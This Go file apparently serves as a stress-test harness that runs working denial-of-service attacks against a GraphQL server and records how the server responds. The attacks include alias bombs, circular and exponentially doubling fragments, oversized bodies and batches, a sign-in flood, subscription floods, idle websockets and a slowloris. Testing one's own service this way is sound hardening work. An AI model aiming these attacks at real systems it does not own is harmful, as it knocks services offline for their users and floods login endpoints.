package main

import (
	"context"
	"errors"
	"fmt"
	"net"
	"strings"
	"sync"
	"time"

	"github.com/coder/websocket"
	"github.com/coder/websocket/wsjson"
)

// attack is one way to wear a server down.
type attack struct {
	name     string
	signedIn bool
	run      func(ctx context.Context, foe *client, heard *told) // until ctx ends
}

var attacks = []attack{
	{"alias bomb", true, repeat(query("{ " + many(200, func(i int) string { return fmt.Sprintf("a%d: documents(first: 100) { nodes { id subject } }", i) }) + " }"))},
	{"deep query", true, repeat(query(`{ documents(first: 20) { nodes { ` + strings.Repeat("related { ", 40) + "id" + strings.Repeat(" }", 43)))},
	{"large pages in large pages", true, repeat(query("{ documents(first: 200) { nodes { derivations(first: 200) { nodes { id number document { derivations(first: 200) { nodes { id } } } } } } } }"))},
	{"circular fragments", false, repeat(query("{ ...A } fragment A on Query { ...B } fragment B on Query { ...A }"))},
	{"fragments that double 18 times", false, repeat(query("{ ...F0 }" + many(18, func(i int) string { return fmt.Sprintf(" fragment F%d on Query { ...F%d ...F%d }", i, i+1, i+1) }) +
		" fragment F18 on Query { __typename }"))},
	{"directive overload", false, repeat(query("{ __typename " + strings.Repeat("@include(if: true) ", 5000) + "}"))},
	{"the same field 3,000 times", false, repeat(query("{ " + strings.Repeat("viewer { permissions } ", 3000) + "}"))},
	{"body of 10 MB", false, repeat(query(strings.Repeat(" ", 10<<20) + "{ __typename }"))},
	{"batch of 1,000", false, repeat("[" + strings.Repeat(query("{ viewer { permissions } }")+",", 999) + query("{ viewer { permissions } }") + "]")},
	{"introspection crawl", false, repeat(query("{ " + many(15, func(i int) string {
		return fmt.Sprintf("s%d: __schema { types { name fields { name args { name type { name } } type { name kind ofType { name } } } } }", i)
	}) + " }"))},
	{"sign-in flood", false, repeat(query(`mutation { signIn(input: {email: "nobody@example.org", password: "guess-guess-guess"}) { token } }`))},
	{"subscription flood", true, subscribe},
	{"1,000 idle sockets", false, idle},
	{"slow loris on 1,000 connections", false, loris},
}

func many(n int, each func(i int) string) string {
	list := make([]string, n)
	for i := range list {
		list[i] = each(i)
	}
	return strings.Join(list, " ")
}

// repeat sends the same request again and again, on several connections.
func repeat(body string) func(context.Context, *client, *told) {
	return func(ctx context.Context, foe *client, heard *told) {
		var all sync.WaitGroup
		for range attackers {
			all.Go(func() {
				for ctx.Err() == nil {
					status, answer, err := foe.post(ctx, body)
					switch {
					case ctx.Err() != nil:
					case err != nil:
						heard.add("cut off")
					default:
						heard.add(outcome(status, answer))
					}
				}
			})
		}
		all.Wait()
	}
}

// hold opens n sockets and keeps them until ctx ends; use does something with each.
func hold(ctx context.Context, foe *client, heard *told, n int, use func(*websocket.Conn)) {
	for range n {
		conn, res, err := websocket.Dial(ctx, foe.base+"/graphql", &websocket.DialOptions{HTTPClient: foe.http, Subprotocols: []string{"graphql-transport-ws"}})
		if res != nil && res.Body != nil {
			res.Body.Close()
		}
		switch {
		case ctx.Err() != nil:
			return
		case err != nil && res != nil:
			heard.add(fmt.Sprint(res.StatusCode))
			continue
		case err != nil:
			heard.add("cut off")
			continue
		}
		defer conn.CloseNow()
		heard.add("open")
		use(conn)
	}
	<-ctx.Done()
}

func idle(ctx context.Context, foe *client, heard *told) {
	hold(ctx, foe, heard, 1000, func(*websocket.Conn) {})
}

// subscribe opens sockets with many subscriptions on each.
func subscribe(ctx context.Context, foe *client, heard *told) {
	hold(ctx, foe, heard, 50, func(conn *websocket.Conn) {
		_ = wsjson.Write(ctx, conn, map[string]any{"type": "connection_init", "payload": map[string]any{"Authorization": "Bearer " + foe.token}})
		for i := range 100 {
			_ = wsjson.Write(ctx, conn, map[string]any{"id": fmt.Sprint(i), "type": "subscribe", "payload": map[string]any{"query": "subscription { myReportsUpdated { id } }"}})
		}
		go func() {
			for {
				var m struct{ Type string }
				err := wsjson.Read(ctx, conn, &m)
				if closed, ok := errors.AsType[websocket.CloseError](err); ok {
					heard.add(fmt.Sprint("closed: ", int(closed.Code)))
				}
				if err != nil {
					return
				}
				if m.Type == "error" {
					heard.add("subscription refused")
				}
			}
		}()
	})
}

// loris opens connections and sends a byte of a request every second.
func loris(ctx context.Context, foe *client, heard *told) {
	var all sync.WaitGroup
	for range 1000 {
		all.Go(func() {
			conn, err := foe.dial(ctx, "tcp", strings.TrimPrefix(foe.base, "http://"))
			if err != nil {
				heard.add("cut off")
				return
			}
			defer conn.Close()
			heard.add("open")
			fmt.Fprint(conn, "POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n")
			drip(ctx, conn)
			if ctx.Err() == nil {
				heard.add("closed")
			}
		})
	}
	all.Wait()
}

// drip sends bytes until the other side closes or ctx ends.
func drip(ctx context.Context, conn net.Conn) {
	ticks := time.NewTicker(time.Second)
	defer ticks.Stop()
	for {
		select {
		case <-ctx.Done():
			return
		case <-ticks.C:
			if _, err := conn.Write([]byte("{")); err != nil {
				return
			}
		}
	}
}
